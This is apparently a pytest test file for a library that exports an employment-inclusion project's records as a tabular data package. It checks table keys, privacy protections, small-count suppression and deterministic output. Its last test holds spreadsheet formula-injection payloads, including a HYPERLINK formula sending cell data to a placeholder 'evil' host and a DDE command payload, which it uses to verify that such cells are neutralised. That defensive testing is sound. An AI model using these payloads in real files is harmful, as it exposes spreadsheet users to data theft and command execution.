"""What the data package holds: every table, its keys, the numbers, and no personal data."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import attrs
import pandas as pd
import pytest
from inclusionkit_datapackage import DataPackage, build_datapackage, read_csv_rows

from inclusionkit import COLUMN_NAMES, InclusionKitError, compute, examples, progress

RESOURCES = (
    "project",
    "locations",
    "partners",
    "objectives",
    "indicators",
    "target_groups",
    "activities",
    "deliverables",
    "progress",
)


@pytest.fixture(scope="module")
def dlm() -> examples.Example:
    """The example with a participation table."""
    return examples.load("dreptul-la-munca")


@pytest.fixture(scope="module")
def package(dlm: examples.Example) -> DataPackage:
    """Its data package, with the indicator table."""
    return build_datapackage(dlm.project, dlm.participations)


def rows(package: DataPackage, name: str) -> list[dict[str, str]]:
    """A resource's rows as text, read back as written (formula quotes removed)."""
    return read_csv_rows(package.table(name).csv_bytes())


def test_every_resource_is_there(package: DataPackage) -> None:
    """The project tables, then the indicator definitions and table; paths under data/."""
    assert package.names == (*RESOURCES, "indicator_definitions", "indicator_table")
    descriptor = package.descriptor
    assert descriptor["profile"] == "tabular-data-package"
    assert descriptor["name"] == "posdru-165-6.2-s-143094"
    paths = [resource["path"] for resource in descriptor["resources"]]
    assert paths == [f"data/{name}.csv" for name in package.names]


def test_without_participations_there_is_no_indicator_table() -> None:
    """Progress still comes from the records, but no indicator table is made up."""
    example = examples.load("dialog-social")
    package = build_datapackage(example.project)
    assert package.names == RESOURCES
    assert "indicator table" not in package.descriptor["description"]


def test_project_row_and_code_parts(package: DataPackage, dlm: examples.Example) -> None:
    """One project row with the parsed code, the period and the lead partner."""
    (row,) = rows(package, "project")
    assert row["code"] == dlm.project.code
    assert (row["code_programme"], row["axis"], row["key_area"]) == ("POSDRU", "6", "6.2")
    assert (row["start"], row["end"]) == ("2014-04-01", "2015-10-31")
    assert row["lead"] == dlm.project.lead.organisation.id
    assert row["title_en"] == "We too have the right to work!"


def test_partners_have_roles_kinds_and_countries(package: DataPackage) -> None:
    """One row per partner; exactly one lead."""
    partners = rows(package, "partners")
    assert [p["organisation_id"] for p in partners] == ["forum-group", "agentia", "cpe", "eduteco"]
    assert [p["role"] for p in partners].count("lead") == 1
    assert {p["country"] for p in partners} == {"RO"}
    assert set(partners[0]) == {
        "project_code",
        "organisation_id",
        "name",
        "name_en",
        "kind",
        "role",
        "city",
        "country",
    }


def test_locations_carry_the_category_of_region(package: DataPackage) -> None:
    """RO32 is more developed, the others less developed."""
    found = {row["region"]: row["category_of_region"] for row in rows(package, "locations")}
    assert found == {
        "RO32": "more developed",
        "RO31": "less developed",
        "RO11": "less developed",
    }


def test_indicators_keep_targets_and_rules(package: DataPackage, dlm: examples.Example) -> None:
    """Every indicator with its objective, target and rule (as JSON)."""
    indicators = rows(package, "indicators")
    assert [row["code"] for row in indicators] == [ind.code for ind in dlm.project.indicators]
    roma = indicators[0]
    assert (roma["objective"], roma["target"], roma["ascending"]) == ("O1", "800", "true")
    assert json.loads(roma["rule"]) == dlm.project.indicators[0].rule


def test_progress_is_progress(package: DataPackage, dlm: examples.Example) -> None:
    """The progress resource holds what progress() computes."""
    expected = progress(dlm.project, dlm.participations)
    got = pd.DataFrame(rows(package, "progress"))
    assert got["indicator"].tolist() == expected["indicator"].tolist()
    assert got["status"].tolist() == expected["status"].tolist()
    achieved = pd.to_numeric(got["achieved"].replace("", None))
    assert achieved.tolist() == expected["achieved"].astype("float64").tolist()


def test_indicator_table_is_the_engine_table(package: DataPackage, dlm: examples.Example) -> None:
    """indicator, gender, value by gender, totals included, as compute() gives them."""
    expected = compute(dlm.participations, "esf-2014", by=("gender",), project=dlm.project)
    got = pd.DataFrame(rows(package, "indicator_table"))
    assert list(got.columns) == ["indicator", "gender", "value"]
    assert got["indicator"].tolist() == expected.table["indicator"].tolist()
    assert got["value"].astype(int).tolist() == expected.table["value"].tolist()
    assert "total" in set(got["gender"])
    resource = next(r for r in package.descriptor["resources"] if r["name"] == "indicator_table")
    assert resource["schema"]["primaryKey"] == ["indicator", "gender"]
    assert resource["provenance"]["counted"] == expected.provenance.counted


def test_keys_are_declared(package: DataPackage) -> None:
    """Primary keys on the identified tables; foreign keys to project, partners, indicators."""
    schemas = {r["name"]: r["schema"] for r in package.descriptor["resources"]}
    assert schemas["partners"]["primaryKey"] == ["organisation_id"]
    assert schemas["progress"]["primaryKey"] == ["indicator"]
    references = {
        (name, tuple(key["fields"]), key["reference"]["resource"])
        for name, schema in schemas.items()
        for key in schema.get("foreignKeys", [])
    }
    assert ("activities", ("partner",), "partners") in references
    assert ("progress", ("indicator",), "indicators") in references
    assert ("indicators", ("objective",), "objectives") in references
    assert ("project", ("lead",), "partners") in references
    assert ("indicator_table", ("indicator",), "indicator_definitions") in references
    for schema in schemas.values():
        for field in schema["fields"]:
            assert field["type"] in {"string", "integer", "number", "boolean", "date", "object"}


def test_no_participant_level_data(package: DataPackage, dlm: examples.Example) -> None:
    """No participant column, and no participant id anywhere in any file."""
    assert dlm.participations is not None
    personal = set(COLUMN_NAMES) - {"project_code", "gender", "region", "partner"}
    ids = set(dlm.participations["participant_id"].astype(str))
    for table in package.tables:
        assert not personal & set(table.field_names), table.name
    for name, data in package.files().items():
        text = data.decode("utf-8")
        cells = {cell for line in csv.reader(io.StringIO(text)) for cell in line}
        assert not ids & cells, name


def test_activity_participants_are_counted_not_listed() -> None:
    """An activity with known participants exports their number only."""
    example = examples.load("dialog-social")
    activities = list(example.project.activities)
    activities[0] = attrs.evolve(activities[0], participants=("PX-ana", "PX-ion"))
    project = attrs.evolve(example.project, activities=tuple(activities))
    package = build_datapackage(project)
    row = next(r for r in rows(package, "activities") if r["id"] == activities[0].id)
    assert row["participants_known"] == "2"
    for data in package.files().values():
        assert b"PX-" not in data


def test_suppression_hides_small_counts(dlm: examples.Example) -> None:
    """With suppress=5, counts 1-4 are published empty and flagged."""
    package = build_datapackage(dlm.project, dlm.participations, suppress=5)
    table = pd.DataFrame(rows(package, "indicator_table"))
    assert list(table.columns) == ["indicator", "gender", "value", "suppressed"]
    shown = pd.to_numeric(table["value"].replace("", None))
    assert not ((shown > 0) & (shown < 5)).any()
    assert (table["suppressed"] == "true").sum() == shown.isna().sum()


def test_other_projects_rows_are_refused(dlm: examples.Example) -> None:
    """A table mixing projects would be published as this one's: an error names the codes."""
    assert dlm.participations is not None
    mixed = dlm.participations.copy()
    mixed.loc[0, "project_code"] = "POCU/449/4/16/127700"
    with pytest.raises(InclusionKitError, match=r"other projects .*POCU/449/4/16/127700"):
        build_datapackage(dlm.project, mixed)


def test_canonically_equal_codes_are_accepted(dlm: examples.Example) -> None:
    """The same code written differently is the same project."""
    assert dlm.participations is not None
    table = dlm.participations.copy()
    table["project_code"] = "posdru / 165 / 6.2 / S / 143094"
    assert "indicator_table" in build_datapackage(dlm.project, table).names


def test_duplicate_objective_ids_are_a_clear_error(dlm: examples.Example) -> None:
    """The model does not forbid them, but the objectives' key needs unique ids."""
    objectives = list(dlm.project.objectives)
    objectives[1] = attrs.evolve(objectives[1], id=objectives[0].id)
    project = attrs.evolve(dlm.project, objectives=tuple(objectives))
    with pytest.raises(InclusionKitError, match=r"objectives: the id.*O1"):
        build_datapackage(project)


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"lang": "fr"}, "lang must be"),
        ({"suppress": "5"}, "suppress must be"),
        ({"rules": "esf-1999"}, "esf-1999"),
    ],
)
def test_bad_options(dlm: examples.Example, options: dict[str, object], message: str) -> None:
    """Wrong options are errors, not surprises."""
    with pytest.raises(InclusionKitError, match=message):
        build_datapackage(dlm.project, dlm.participations, **options)  # type: ignore[arg-type]


def test_romanian_titles_and_licence(dlm: examples.Example) -> None:
    """lang='ro' titles the package in Romanian; a licence is recorded."""
    package = build_datapackage(dlm.project, lang="ro", license="CC-BY-4.0")
    assert package.descriptor["title"] == "Și noi avem dreptul la muncă!"
    assert package.descriptor["licenses"] == [{"name": "CC-BY-4.0"}]
    names = [row["name"] for row in rows(package, "progress")]
    assert names[0] == dlm.project.indicators[0].name.ro


def test_files_are_deterministic(dlm: examples.Example, tmp_path: Path) -> None:
    """Building twice gives the same bytes (no timestamps), so packages diff cleanly."""
    first = build_datapackage(dlm.project, dlm.participations).files()
    second = build_datapackage(dlm.project, dlm.participations).files()
    assert first == second


def test_project_tables_are_the_declared_ones(package: DataPackage) -> None:
    """The project's tables are tables.json's, in order, and every enum names a model enum."""
    from inclusionkit_datapackage import TABLE_NAMES, table_specs

    from inclusionkit import models

    assert package.names[: len(TABLE_NAMES)] == TABLE_NAMES
    for spec in table_specs():
        table = package.table(spec["name"])
        assert [field.name for field in table.fields] == [f["name"] for f in spec["fields"]]
        for field in spec["fields"]:
            enum = field.get("enum")
            if isinstance(enum, str):
                assert hasattr(models, enum.removeprefix("@")), enum


def test_a_given_report_is_published_as_it_is(dlm: examples.Example) -> None:
    """A report computed beforehand gives the package the computed one would (one report)."""
    report = compute(dlm.participations, "esf-2014", by=("gender",), project=dlm.project)
    given = build_datapackage(dlm.project, dlm.participations, report=report, suppress=5)
    computed = build_datapackage(dlm.project, dlm.participations, suppress=5)
    assert given.files() == computed.files()


FORMULAS = ('=HYPERLINK("http://evil/?"&A1)', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-1+2", "'=x")


def test_formula_cells_are_neutralised_and_read_back_exactly() -> None:
    """A text cell a spreadsheet would run (an activity's city, from a partner) is written with a
    quote in front, by the library's one CSV writer; read_csv_rows gives the exact text back."""
    assert len(examples.load("dialog-social").project.activities) >= len(FORMULAS)
    example = examples.load("dialog-social")
    activities = list(example.project.activities)
    titles = [f"{formula} {i}" if i % 2 else formula for i, formula in enumerate(FORMULAS)]
    for i, title in enumerate(titles):
        activities[i] = attrs.evolve(activities[i], city=title)
    project = attrs.evolve(example.project, activities=tuple(activities))
    table = build_datapackage(project).table("activities")
    text = table.csv_bytes().decode("utf-8")
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    for title in titles:
        assert title not in cells
        assert "'" + title in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    read = {row["id"]: row["city"] for row in read_csv_rows(table.csv_bytes())}
    for activity, title in zip(activities, titles, strict=False):
        assert read[activity.id] == title
